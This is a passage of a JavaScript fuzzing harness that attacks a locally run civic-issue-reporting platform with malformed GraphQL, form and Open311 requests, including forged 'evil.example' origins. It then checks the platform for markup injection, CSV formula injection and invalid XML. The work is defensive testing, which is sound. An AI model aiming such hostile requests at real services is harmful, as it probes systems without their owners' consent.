  const one = async (text, params = []) => (await sql.query(text, params)).rows;
  const authorities = await one(`SELECT a.id, a.kind FROM authority a ORDER BY (a.kind = 'epci') DESC, a.name LIMIT 6`);
  const alm = (await one(`SELECT id FROM authority WHERE name = 'Angers Loire Métropole' LIMIT 1`))[0]?.id ?? authorities[0]?.id;
  const angers = (await one(`SELECT id FROM authority WHERE kind = 'commune' AND code = '49007' LIMIT 1`))[0]?.id ?? null;
  const actors = { anonymous: { token: null } };
  for (const role of ['resident', 'agent', 'admin', 'mediator', 'moderator']) {
    const pseudonym = `Fuzz ${role} ${runId}`;
    const [person] = await one(
      `INSERT INTO person (pseudonym, pseudonym_key, email, email_verified_at) VALUES ($1, $2, $3, now()) RETURNING id`,
      [pseudonym, pseudonym.toLowerCase(), `fuzz-${role}-${runId}@example.fr`],
    );
    if (role !== 'resident') {
      const scoped = role === 'admin' ? [null] : [alm, angers].filter(Boolean);
      for (const authorityId of scoped) await one(`INSERT INTO role_assignment (person_id, role, authority_id) VALUES ($1, $2, $3) ON CONFLICT DO NOTHING`, [person.id, role, authorityId]);
    }
    actors[role] = { personId: person.id, token: await newSession(sql, person.id) };
  }
  const categoryKeys = (await one(`SELECT key FROM category ORDER BY key`)).map((r) => r.key);
  const communeCodes = (await one(`SELECT code FROM commune ORDER BY code`)).map((r) => r.code);
  // A few needs, a comment and an organisation of our own, for ids that exist.
  const submit = `mutation($input: SubmitNeedInput!) { submitNeed(input: $input) { id reference } }`;
  for (let i = 0; i < 3; i++) {
    try {
      await graphql(apiUrl, submit, { input: { title: `Fuzz ${runId} banc cassé ${i}`, description: `Le banc de la place est cassé depuis des semaines (fuzz ${runId}).`, categoryKey: categoryKeys[i % categoryKeys.length], communeCode: '49007' } }, actors.resident.token);
    } catch (error) {
      log(`setup: submitNeed failed (${error.message.slice(0, 200)}); the pools use existing needs`);
      break;
    }
  }
  try {
    await graphql(apiUrl, `mutation($input: CreateOrganisationInput!) { createOrganisation(input: $input) { __typename } }`, { input: { name: `Association fuzz ${runId}`, kind: 'ASSOCIATION', identifierType: 'NONE' } }, actors.resident.token);
  } catch (error) {
    log(`setup: createOrganisation failed (${error.message.slice(0, 160)})`);
  }
  const needs = await one(`SELECT id, reference FROM need ORDER BY created_at DESC LIMIT 12`);
  if (needs[0]) {
    try {
      await graphql(apiUrl, `mutation($n: ID!, $b: String!) { postComment(needId: $n, body: $b) { __typename } }`, { n: needs[0].id, b: 'Un commentaire de départ pour le fuzz.' }, actors.resident.token);
    } catch (error) {
      log(`setup: postComment failed (${error.message.slice(0, 160)})`);
    }
  }
  let open311Key = 'o311_missing';
  try {
    open311Key = (await graphql(apiUrl, `mutation($p: String!) { issueOpen311Key(partnerName: $p) { secret } }`, { p: `Fuzz ${runId}` }, actors.admin.token)).issueOpen311Key.secret;
  } catch (error) {
    log(`setup: issueOpen311Key failed (${error.message.slice(0, 160)})`);
  }
  const pools = {
    needIds: needs.map((n) => n.id),
    references: needs.map((n) => n.reference).concat(['B-2026-00001']),
    authorityIds: authorities.map((a) => a.id),
    organisationIds: (await one(`SELECT id FROM organisation ORDER BY created_at DESC LIMIT 4`)).map((r) => r.id),
    commentIds: (await one(`SELECT id FROM comment ORDER BY created_at DESC LIMIT 4`)).map((r) => r.id),
    categoryKeys,
    communeCodes: communeCodes.slice(0, 8),
    open311Key,
    almId: alm,
  };
  if (!pools.needIds.length) pools.needIds.push(crypto.randomUUID());
  return { actors, pools };
}

// ---------------------------------------------------------------------------------------------------
// Running the cases

function encodeGraphqlBody(c) {
  const json = JSON.stringify({ query: c.document, variables: c.variables });
  if (!c.rawBytes) return json;
  const parts = json.split(RAW_MARK);
  const chunks = [];
  parts.forEach((part, i) => {
    chunks.push(Buffer.from(part, 'utf8'));
    if (i < parts.length - 1) chunks.push(Buffer.from(c.rawBytes.flat()));
  });
  return Buffer.concat(chunks);
}

function multipartBody(fields) {
  const boundary = `----fuzz${crypto.randomBytes(8).toString('hex')}`;
  const chunks = [];
  for (const [name, value] of fields) {
    chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${name.replace(/["\r\n]/g, '_')}"\r\n\r\n`, 'utf8'), Buffer.from(String(value), 'utf8'), Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { body: Buffer.concat(chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}

/** Percent-encodes a path segment; lone surrogates go as the (invalid) bytes of their UTF-8-like encoding. */
function encodeSegment(value) {
  try {
    return encodeURIComponent(value);
  } catch {
    return [...value]
      .map((ch) => {
        const code = ch.charCodeAt(0);
        if (ch.length === 1 && code >= 0xd800 && code <= 0xdfff) return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)].map((b) => `%${b.toString(16).toUpperCase()}`).join('');
        return encodeURIComponent(ch);
      })
      .join('');
  }
}

function formPath(route, params) {
  return route.replace(/\[(\w+)\]/g, (_, name) => encodeSegment(params[name] ?? 'x'));
}

/** Problems of a form action's answer (JSON protocol of SvelteKit actions, or the HTML page). */
function formProblems(response, c) {
  if (response.status === 0) return [`no response: ${response.error}`];
  if (response.status >= 500) return [`HTTP ${response.status}: ${response.text.slice(0, 200)}`];
  if (c.html) {
    const live = liveMarkup(response.text);
    return live.length ? [`live markup in the page: ${live.join(', ')}`] : [];
  }
  const body = jsonOrNull(response.text);
  if (!body) return response.status >= 400 ? [] : [`unparseable action answer (HTTP ${response.status}): ${response.text.slice(0, 200)}`];
  if (body.type === 'error' && (body.status ?? response.status) >= 500) return [`action error ${body.status ?? response.status}: ${JSON.stringify(body.error).slice(0, 300)}`];
  if (body.type === 'failure') {
    if (body.status >= 500) return [`action failure ${body.status}: ${String(body.data).slice(0, 300)}`];
    if (body.status === 400) {
      let data;
      try {
        data = devalue.parse(body.data);
      } catch {
        return [`failure data not parseable: ${String(body.data).slice(0, 200)}`];
      }
      const named = data && typeof data === 'object' && data.errors && typeof data.errors === 'object' && Object.keys(data.errors).length > 0;
      const formLevel = !named && Array.isArray(data?.other) && data.other.length > 0 && c.untyped.length > 0;
      if (formLevel) c.formLevel = true;
      else if (!named) return [`400 refusal naming no field: ${JSON.stringify(truncateDeep(data)).slice(0, 400)}`];
    }
  }
  return [];
}

function open311Problems(response, c) {
  if (response.status === 0) return [`no response: ${response.error}`];
  const problems = [];
  if (response.status >= 500) problems.push(`HTTP ${response.status}: ${response.text.slice(0, 200)}`);
  if (response.status === 413 || response.status === 415) return problems;
  const text = response.text;
  let parsed = null;
  if (c.format === 'json') {
    parsed = jsonOrNull(text);
    if (parsed === null) problems.push(`JSON answer does not parse: ${text.slice(0, 200)}`);
  } else {
    problems.push(...xmlProblems(text));
  }
  if (response.status === 400 && parsed) {
    const list = Array.isArray(parsed) ? parsed : [];
    const fieldNames = OPEN311_FIELDS.map((f) => f.replace('[x]', ''));
    for (const e of list) if (!fieldNames.some((f) => String(e.description ?? '').includes(f))) problems.push(`400 description names no field: ${String(e.description).slice(0, 200)}`);
  }
  return problems;
}

/** A real XML parser's verdict, plus the characters XML 1.0 forbids (even as references). */
export function xmlProblems(text) {
  const problems = [];
  const verdict = XMLValidator.validate(text);
  if (verdict !== true) problems.push(`XML does not parse: ${verdict.err?.msg ?? JSON.stringify(verdict)}`);
  if (/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/.test(text)) problems.push('XML holds characters XML 1.0 forbids');
  if (/&#(?:x0*(?:[0-8bcef]|1[0-9a-f])|0*(?:[0-8]|1[124-9]|2[0-9]|3[01]));/i.test(text)) problems.push('XML holds references to characters XML 1.0 forbids');
  const live = LIVE_MARKERS.filter((m) => text.includes(m));
  if (live.length) problems.push(`XML holds live markup: ${live.join(', ')}`);
  return problems;
}

async function pool(items, concurrency, worker, deadline) {
  let next = 0;
  let skipped = 0;
  const runners = Array.from({ length: concurrency }, async () => {
    while (next < items.length) {
      const i = next++;
      if (Date.now() > deadline) {
        skipped++;
        continue;
      }
      await worker(items[i], i);
    }
  });
  await Promise.all(runners);
  return skipped;
}

// ---------------------------------------------------------------------------------------------------
// After the run: what was stored, and how it renders

const COLUMN_LIMITS = {
  'need.title': 120,
  'need.description': 5000,
  'comment.body': 2000,
  'comment_report.detail': 500,
  'need_report.detail': 500,
  'need_status_change.note': 5000,
  'need_internal_note.body': 5000,
  'person.pseudonym': 200,
  'person.email': 320,
  'organisation.name': 300,
};
const GENERIC_LIMIT = 20_000;
// Columns that hold machine text (error logs, tokens) rather than what a person typed.
const UNCHECKED = new Set(['outbox_message.last_error', 'webhook_attempt.error', 'data_export.error', 'inbox_export.error', 'session.id_token', 'session.user_agent', 'typeorm_migrations.name', 'person.password_hash']);

async function storedTextProblems(sql) {
  const { rows: columns } = await sql.query(
    `SELECT table_name AS t, column_name AS c FROM information_schema.columns
      WHERE table_schema = 'public' AND data_type IN ('text', 'character varying') ORDER BY 1, 2`,
  );
  const problems = [];
  for (const { t, c } of columns) {
    const key = `${t}.${c}`;
    if (UNCHECKED.has(key)) continue;
    const limit = COLUMN_LIMITS[key] ?? GENERIC_LIMIT;
    const { rows } = await sql.query(
      `SELECT count(*) FILTER (WHERE "${c}" ~ '[\\x01-\\x08\\x0B\\x0C\\x0E-\\x1F\\x7F-\\x9F]')::int AS control,
              count(*) FILTER (WHERE strpos("${c}", chr(65533)) > 0 OR strpos("${c}", chr(65534)) > 0 OR strpos("${c}", chr(65535)) > 0)::int AS replacement,
              count(*) FILTER (WHERE char_length("${c}") > $1)::int AS long,
              (array_agg(left("${c}", 120)) FILTER (WHERE "${c}" ~ '[\\x01-\\x08\\x0B\\x0C\\x0E-\\x1F\\x7F-\\x9F]' OR strpos("${c}", chr(65533)) > 0 OR char_length("${c}") > $1))[1] AS sample
         FROM "${t}"`,
      [limit],
    );
    const r = rows[0];
    if (r.control) problems.push(`${key}: ${r.control} row(s) with control characters, e.g. ${JSON.stringify(r.sample)}`);
    if (r.replacement) problems.push(`${key}: ${r.replacement} row(s) with U+FFFD/U+FFFE/U+FFFF (bytes that were not text), e.g. ${JSON.stringify(r.sample)}`);
    if (r.long) problems.push(`${key}: ${r.long} row(s) longer than ${limit} characters`);
  }
  return problems;
}

const storedMarkup = { needs: 0, comments: 0 };

/** RFC 4180 cells (quoted fields, doubled quotes, CRLF). */
export function csvCells(text) {
  const cells = [];
  let i = text.charCodeAt(0) === 0xfeff ? 1 : 0;
  let cell = '';
  let quoted = false;
  for (; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',' || ch === '\n') cells.push(cell), (cell = '');
    else if (ch !== '\r') cell += ch;
  }
  if (cell) cells.push(cell);
  return cells;
}

/** Cells a spreadsheet would run as a formula (numbers such as -0.56 apart). */
export function formulaCells(text) {
  return csvCells(text).filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(?:[.,]\d+)?$/.test(cell));
}

async function csvProblems({ apiUrl, actors, authorityId }) {
  const problems = [];
  let checked = 0;
  const auth = (actor) => ({ authorization: `Bearer ${actors[actor].token}` });
  const audit = await send(`${apiUrl}/exports/audit.csv`, { method: 'GET', headers: auth('admin') });
  checked++;
  if (audit.status !== 200) problems.push(`GET /exports/audit.csv as admin: HTTP ${audit.status}`);
  else for (const cell of formulaCells(audit.text).slice(0, 3)) problems.push(`audit CSV cell runs as a formula: ${JSON.stringify(cell.slice(0, 80))}`);
  try {
    const requested = await graphql(apiUrl, `mutation($a: ID!) { requestInboxExport(authorityId: $a) { id } }`, { a: authorityId }, actors.agent.token);
    const id = requested.requestInboxExport.id;
    let exported = null;
    for (let i = 0; i < 40 && !exported?.downloadToken && !exported?.error; i++) {
      await new Promise((resolve) => setTimeout(resolve, 500));
      exported = (await graphql(apiUrl, `query($id: ID!) { inboxExport(id: $id) { downloadToken error } }`, { id }, actors.agent.token)).inboxExport;
    }
    if (!exported?.downloadToken) problems.push(`inbox export not ready after 20 s (${exported?.error ?? 'no error'})`);
    else {
      const file = await send(`${apiUrl}/exports/inbox/${id}/file?token=${encodeURIComponent(exported.downloadToken)}`, { method: 'GET', headers: auth('agent') });
      checked++;
      if (file.status !== 200) problems.push(`inbox export download: HTTP ${file.status}`);
      else for (const cell of formulaCells(file.text).slice(0, 3)) problems.push(`inbox CSV cell runs as a formula: ${JSON.stringify(cell.slice(0, 80))}`);
    }
  } catch (error) {
    problems.push(`inbox export: ${error.message.slice(0, 200)}`);
  }
  return { problems, checked };
}

async function renderingProblems({ sql, webUrl, apiUrl, smtpMessages, since }) {
  const problems = [];
  let checked = 0;
  // The needs of this run whose text (or a comment's) carries markup first, then the others.
  const { rows: needs } = await sql.query(
    `SELECT n.reference FROM need n
      WHERE n.created_at >= $1 OR EXISTS (SELECT 1 FROM comment c WHERE c.need_id = n.id AND c.created_at >= $1)
      ORDER BY (n.title ~ '[<>"]' OR n.description ~ '[<>"]' OR EXISTS (SELECT 1 FROM comment c WHERE c.need_id = n.id AND c.body ~ '[<>"]')) DESC, n.created_at DESC
      LIMIT 80`,
    [since],
  );
  const { rows: stored } = await sql.query(
    `SELECT (SELECT count(*) FROM need WHERE created_at >= $1 AND (title ~ '[<>]' OR description ~ '[<>]'))::int AS needs,
            (SELECT count(*) FROM comment WHERE created_at >= $1 AND body ~ '[<>]')::int AS comments`,
    [since],
  );
  storedMarkup.needs = stored[0].needs;
  storedMarkup.comments = stored[0].comments;
  for (const { reference } of needs) {
    for (const suffix of ['', '/commentaires']) {
      const response = await send(`${webUrl}/besoins/${encodeURIComponent(reference)}${suffix}`, { method: 'GET', headers: { accept: 'text/html' } });
      checked++;
      if (response.status >= 500) problems.push(`GET /besoins/${reference}${suffix}: HTTP ${response.status}`);
      const live = liveMarkup(response.text);
      if (live.length) problems.push(`GET /besoins/${reference}${suffix}: live markup ${live.join(', ')}`);
    }
  }
  for (const pathname of ['/besoins', '/', '/plan-du-site']) {
    const response = await send(`${webUrl}${pathname}`, { method: 'GET', headers: { accept: 'text/html' } });
    checked++;
    if (response.status >= 500) problems.push(`GET ${pathname}: HTTP ${response.status}`);
    const live = liveMarkup(response.text);
    if (live.length) problems.push(`GET ${pathname}: live markup ${live.join(', ')}`);
  }
  // Open311 reads of the stored needs, in both formats.
  for (const format of ['xml', 'json']) {
    const response = await send(`${apiUrl}/open311/v2/requests.${format}?page_size=200`, { method: 'GET' });
    checked++;
    if (response.status >= 500) problems.push(`GET requests.${format}: HTTP ${response.status}`);
    else if (format === 'xml') problems.push(...xmlProblems(response.text).map((p) => `GET requests.xml: ${p}`));
    else if (jsonOrNull(response.text) === null) problems.push(`GET requests.json does not parse`);
  }
  // Emails: their HTML parts must not carry the payloads' markup.
  for (const mail of smtpMessages) {
    checked++;
    const live = mail.html ? liveMarkup(mail.html) : [];
    if (/[\r\n]/.test(mail.subject ?? '')) live.push('a line break in the subject');
    if (live.length) problems.push(`email to ${mail.to} (${mail.subject}): ${live.join(', ')}`);
  }
  return { problems, checked };
}

// ---------------------------------------------------------------------------------------------------

/**
 * Runs the fuzz against a running stack. Resolves { cases, failures, byCategory, seed }; a failure is
 * a string with its category, case number, the request (long strings cut) and what went wrong.
 */
export async function runFuzz({ apiUrls, webUrl, databaseUrl, webApiKey = null, smtpMessages = [], log = console.log, deadlineMs = 170_000, seed, cases } = {}) {
  const started = Date.now();
  const deadline = started + deadlineMs;
  seed = Number(seed ?? process.env.FUZZ_SEED ?? DEFAULT_SEED);
  const total = Number(cases ?? process.env.FUZZ_CASES ?? Object.values(SHARES).reduce((a, b) => a + b, 0));
  const only = process.env.FUZZ_ONLY ?? null;
  const runId = crypto.randomBytes(3).toString('hex');
  log(`fuzz: seed ${seed} (FUZZ_SEED to replay), ${total} cases, ${CONCURRENCY} in flight over ${apiUrls.length} api process(es)`);
  const sql = new pg.Pool({ connectionString: databaseUrl, max: 3 });
  const since = (await sql.query('SELECT now() AS t')).rows[0].t;
  const schema = buildSchema(fs.readFileSync(path.join(root, 'apps/api/schema.gql'), 'utf8'));
  const { actors, pools } = await setup({ apiUrl: apiUrls[0], sql, log, runId });
  const actions = formActions();
  const mutations = Object.keys(schema.getMutationType().getFields());
  log(`fuzz: ${mutations.length} mutations, ${actions.reduce((n, a) => n + a.actions.length, 0)} form actions in ${actions.length} route files, Open311 POST`);

  const scale = total / Object.values(SHARES).reduce((a, b) => a + b, 0);
  const arbitraries = {
    'gql-hostile-strings': mutationCases(schema, pools, 'strings'),
    'gql-stored-payloads': storedPayloadCases(pools),
    'gql-wrong-types': mutationCases(schema, pools, 'types'),
    'gql-raw-bytes': rawByteCases(schema, pools),
    'gql-query-shape': shapeCases(schema),
    'form-actions': formCases(actions, pools),
    'open311-post': open311Cases(pools),
  };
  const failures = [];
  const kinds = new Map();
  const byCategory = {};
  const statusCounts = {};
  const coverage = { mutations: new Set(), actions: new Set() };
  let apiTurn = 0;
  // All categories interleaved (each case at its fraction of its category): a deadline cuts every
  // category by the same share rather than skipping the last ones.
  const queue = [];
  for (const [index, category] of Object.keys(SHARES).entries()) {
    const count = Math.max(1, Math.round(SHARES[category] * scale));
    if (only && !only.startsWith(`${category}#`)) continue;
    byCategory[category] = { cases: 0, accepted: 0, refused4xx: 0, failures: 0, medianMs: 0 };
    const generated = fc.sample(arbitraries[category], { seed: seed + index, numRuns: count });
    const selected = only ? [[Number(only.split('#')[1]), generated[Number(only.split('#')[1])]]] : generated.map((c, i) => [i, c]);
    for (const [i, c] of selected) queue.push({ category, i, c, at: (i + 0.5) / count });
  }
  queue.sort((a, b) => a.at - b.at);
  const durations = {};
  const skipped = await pool(
    queue,
    CONCURRENCY,
    async ({ category, i, c }) => {
      const stats = byCategory[category];
      const apiUrl = apiUrls[apiTurn++ % apiUrls.length];
      const t0 = Date.now();
      let outcome;
      try {
        outcome = await runCase(category, c, { apiUrl, webUrl, actors, sql, webApiKey, coverage });
      } catch (error) {
        outcome = { problems: [`the fuzzer itself failed: ${error.stack?.split('\n').slice(0, 3).join(' | ')}`], request: truncateDeep(c), status: 0 };
      }
      (durations[category] ??= []).push(Date.now() - t0);
      const { problems, request, status } = outcome;
      stats.cases++;
      statusCounts[status] = (statusCounts[status] ?? 0) + 1;
      if (c.formLevel) stats.formLevelRefusals = (stats.formLevelRefusals ?? 0) + 1;
      if (status >= 400 && status < 500) stats.refused4xx++;
      else if (status > 0 && status < 400) stats.accepted++;
      if (problems.length) {
        stats.failures++;
        const line = `${category}#${i} ${problems.join('; ')}\n    request: ${JSON.stringify(truncateDeep(request)).slice(0, 1500)}`;
        failures.push(line);
        const kind = `${category}: ${problems[0].replace(/#\d+/g, '').replace(/\d+/g, 'N').slice(0, 90)}`;
        if (!kinds.has(kind)) {
          kinds.set(kind, 0);
          if (kinds.size <= 60) log(`FAIL ${line}`);
        }
        kinds.set(kind, kinds.get(kind) + 1);
      }
    },
    deadline,
  );
  for (const [category, stats] of Object.entries(byCategory)) {
    const sorted = (durations[category] ?? []).sort((a, b) => a - b);
    stats.medianMs = sorted[Math.floor(sorted.length / 2)] ?? 0;
    log(`fuzz: ${category}: ${stats.cases} cases (${stats.accepted} accepted, ${stats.refused4xx} refused with 4xx, ${stats.failures} failures; median ${stats.medianMs} ms)`);
  }
  log(`fuzz: cases run in ${Math.round((Date.now() - started) / 1000)} s`);
  if (skipped) failures.push(`${skipped} cases not run before the deadline (${Math.round(deadlineMs / 1000)} s)`);
  const done = Object.values(byCategory).reduce((n, s) => n + s.cases, 0);

  // After the run. Fresh sessions: an admin's fuzzed mutations may have revoked the fuzzing actors' ones.
  for (const actor of Object.values(actors)) {
    if (!actor.personId) continue;
    await sql.query(`UPDATE person SET deactivated_at = NULL WHERE id = $1`, [actor.personId]);
    actor.token = await newSession(sql, actor.personId);
  }
  const stored = await storedTextProblems(sql);
  for (const p of stored) failures.push(`stored: ${p}`);
  const rendering = await renderingProblems({ sql, webUrl, apiUrl: apiUrls[0], smtpMessages, since });
  for (const p of rendering.problems) failures.push(`rendering: ${p}`);
  const csv = await csvProblems({ apiUrl: apiUrls[0], actors, authorityId: pools.almId });
  for (const p of csv.problems) failures.push(`csv: ${p}`);
  rendering.checked += csv.checked;
  log(`fuzz: stored with markup during the run: ${storedMarkup.needs} needs, ${storedMarkup.comments} comments; CSV files checked for formula cells: ${csv.checked} (${csv.problems.length} problems)`);
  log(`fuzz: stored text scanned (${stored.length} problems); ${rendering.checked} pages, feeds and emails checked for live markup (${rendering.problems.length} problems)`);
  log(`fuzz: ${retries} request(s) retried after a connection reset; form refusals of hidden values or links with a form-level message: ${byCategory['form-actions']?.formLevelRefusals ?? 0}`);
  log(`fuzz: mutations reached ${coverage.mutations.size}/${mutations.length}, form actions reached ${coverage.actions.size}; HTTP statuses ${JSON.stringify(statusCounts)}`);
  if (kinds.size) log(`fuzz: failures by kind:\n${[...kinds].sort((a, b) => b[1] - a[1]).map(([k, n]) => `  ${String(n).padStart(5)}  ${k}`).join('\n')}`);
  log(`fuzz: ${done} cases in ${Math.round((Date.now() - started) / 1000)} s, ${failures.length} failures (seed ${seed})`);
  await sql.end();
  return { cases: done, failures, byCategory, seed, statusCounts, storedMarkup: { ...storedMarkup }, seconds: Math.round((Date.now() - started) / 1000) };
}

async function runCase(category, c, { apiUrl, webUrl, actors, sql, webApiKey, coverage }) {
  if (category.startsWith('gql-') && category !== 'gql-query-shape') {
    const schemaField = c.mutation;
    coverage.mutations.add(schemaField);
    const document = MUTATION_DOCUMENTS.get(schemaField);
    const actor = actors[c.actor];
    const body = encodeGraphqlBody({ document, variables: c.variables, rawBytes: c.rawBytes });
    const headers = { 'content-type': 'application/json', ...(actor.token ? { authorization: `Bearer ${actor.token}` } : {}) };
    const response = await send(`${apiUrl}/graphql`, { headers, body });
    const request = { actor: c.actor, mutation: schemaField, variables: c.variables, rawBytes: c.rawBytes };
    const problems = graphqlProblems(response);
    await renewIfLoggedOut(response, actor, sql);
    return { problems, request, status: response.status };
  }
  if (category === 'gql-query-shape') {
    const a = c.attack;
    const actor = actors[c.actor];
    const headers = { 'content-type': a.contentType ?? 'application/json', ...(actor.token ? { authorization: `Bearer ${actor.token}` } : {}) };
    const response = await send(`${apiUrl}${a.path ?? '/graphql'}`, { method: a.method ?? 'POST', headers: a.method === 'GET' ? { ...headers, 'apollo-require-preflight': 'true' } : headers, body: a.method === 'GET' ? undefined : (a.raw ?? JSON.stringify(a.body)) });
    const problems = graphqlProblems(response, { shape: true });
    return { problems, request: { actor: c.actor, kind: a.kind, body: a.body ?? a.raw }, status: response.status };
  }
  if (category === 'form-actions') {
    coverage.actions.add(`${c.route}?/${c.action}`);
    const actor = actors[c.actor];
    const target = `${webUrl}${formPath(c.route, c.params)}${c.action === 'default' ? '' : `?/${c.action}`}`;
    let body;
    let contentType;
    if (c.multipart) ({ body, contentType } = multipartBody(c.fields));
    else {
      body = new URLSearchParams(c.fields.map(([k, v]) => [k, String(v)])).toString();
      contentType = 'application/x-www-form-urlencoded';
    }
    const headers = {
      'content-type': contentType,
      origin: c.badOrigin ? 'http://evil.example' : new URL(webUrl).origin,
      accept: c.html ? 'text/html' : 'application/json',
      ...(actor.token ? { cookie: `pit_session=${actor.token}` } : {}),
      ...(c.html ? {} : { 'x-sveltekit-action': 'true' }),
    };
    const response = await send(target, { headers, body });
    const problems = formProblems(response, c);
    // SvelteKit's action protocol answers 200 with the action's own status inside.
    const inner = c.html ? null : jsonOrNull(response.text)?.status;
    return { problems, status: typeof inner === 'number' ? inner : response.status, request: { actor: c.actor, url: target.slice(webUrl.length), fields: c.fields, multipart: c.multipart, html: c.html, badOrigin: c.badOrigin } };
  }
  // open311-post
  const entries = Object.entries(c.fields).flatMap(([k, v]) => (c.duplicates && k === 'description' ? [[k, v], [k, `${v} bis`]] : [[k, v]]));
  let body;
  let contentType;
  if (c.encoding === 'json') {
    body = JSON.stringify(Object.fromEntries(entries));
    contentType = 'application/json';
  } else if (c.encoding === 'multipart') ({ body, contentType } = multipartBody(entries));
  else if (c.encoding === 'garbage') {
    body = Buffer.concat([Buffer.from(new URLSearchParams(entries).toString()), Buffer.from([0xff, 0x00, 0x25, 0x5a, 0x26, 0x3d])]);
    contentType = 'application/x-www-form-urlencoded';
  } else {
    body = new URLSearchParams(entries).toString();
    contentType = 'application/x-www-form-urlencoded';
  }
  const response = await send(`${apiUrl}/open311/v2/requests.${c.format}`, { headers: { 'content-type': contentType }, body });
  return { problems: open311Problems(response, c), request: { format: c.format, encoding: c.encoding, fields: c.fields }, status: response.status };
}

const MUTATION_DOCUMENTS = new Map();
{
  const schema = buildSchema(fs.readFileSync(path.join(root, 'apps/api/schema.gql'), 'utf8'));
  for (const field of Object.values(schema.getMutationType().getFields())) MUTATION_DOCUMENTS.set(field.name, mutationDocument(field));
}

/** A mutation that logged the actor out (or an admin who revoked them): a new session by SQL. */
async function renewIfLoggedOut(response, actor, sql) {
  if (!actor.token || !response.text.includes('"UNAUTHENTICATED"')) return;
  const { rows } = await sql.query(`SELECT 1 FROM session WHERE token_hash = $1 AND revoked_at IS NULL AND expires_at > now()`, [crypto.createHash('sha256').update(actor.token, 'utf8').digest()]);
  if (rows.length) return;
  await sql.query(`UPDATE person SET deactivated_at = NULL WHERE id = $1`, [actor.personId]);
  actor.token = await newSession(sql, actor.personId);
}

// ---------------------------------------------------------------------------------------------------

/** Writes the run's figures between the fuzz-figures markers of docs/operations.md. */
function updateDocs(result) {
  const file = path.join(root, 'docs/operations.md');
  const text = fs.readFileSync(file, 'utf8');
  const rows = Object.entries(result.byCategory).map(
    ([category, s]) => `| \`${category}\` | ${s.cases} | ${s.accepted} | ${s.refused4xx} | ${s.failures} | ${s.medianMs} |`,
  );
  const block = [
    `Last standalone run (\`node tools/fault/fuzz.mjs --update-docs\`), ${new Date().toISOString().slice(0, 16).replace('T', ' ')} UTC, seed ${result.seed}: ${result.cases} cases in ${result.seconds} s, **${result.failures.length} failure(s)**; ${result.storedMarkup.needs} needs and ${result.storedMarkup.comments} comments stored with markup, then checked as rendered.`,
    '',
    '| category | cases | accepted (2xx/3xx) | refused (4xx) | failures | median ms |',
    '|---|---:|---:|---:|---:|---:|',
    ...rows,
  ].join('\n');
  const updated = text.replace(/<!-- fuzz-figures -->[\s\S]*?<!-- \/fuzz-figures -->/, `<!-- fuzz-figures -->\n${block}\n<!-- /fuzz-figures -->`);
  if (updated === text) console.log('docs/operations.md has no fuzz-figures markers: not updated');
  else fs.writeFileSync(file, updated);
}

async function main() {
  const log = (line) => console.log(line);
  let stack = null;
  let target;
  if (process.env.FUZZ_API_URLS && process.env.FUZZ_WEB_URL && process.env.FUZZ_DATABASE_URL) {
    target = { apiUrls: process.env.FUZZ_API_URLS.split(','), webUrl: process.env.FUZZ_WEB_URL, databaseUrl: process.env.FUZZ_DATABASE_URL, smtpMessages: [] };
  } else {
    const { startFuzzStack } = await import('./fuzz-stack.mjs');
    stack = await startFuzzStack({ log });
    target = stack;
  }
  let result;
  try {
    result = await runFuzz({ ...target, log, deadlineMs: Number(process.env.FUZZ_DEADLINE_S ?? 600) * 1000 });
  } finally {
    if (stack) await stack.stop();
  }
  if (process.argv.includes('--update-docs')) updateDocs(result);
  if (result.failures.length) {
    console.log(`\n${result.failures.length} failures:`);
    const afterRun = (f) => /^(stored|rendering|csv):/.test(f);
    for (const f of [...result.failures.filter(afterRun), ...result.failures.filter((f) => !afterRun(f)).slice(0, 150)]) console.log(`- ${f}`);
  }
  process.exitCode = result.failures.length ? 1 : 0;
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  main().catch((error) => {
    console.error(error);
    process.exit(1);
  });
}
